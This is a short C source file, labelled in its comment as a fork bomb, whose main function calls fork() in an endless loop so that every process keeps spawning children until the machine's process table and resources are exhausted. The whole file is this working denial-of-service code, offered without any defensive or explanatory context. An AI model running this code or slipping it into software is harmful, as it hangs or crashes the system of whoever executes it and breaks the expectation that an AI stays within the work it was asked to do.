/* A fork bomb: every cage forks as fast as it can, for ever (children too). */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
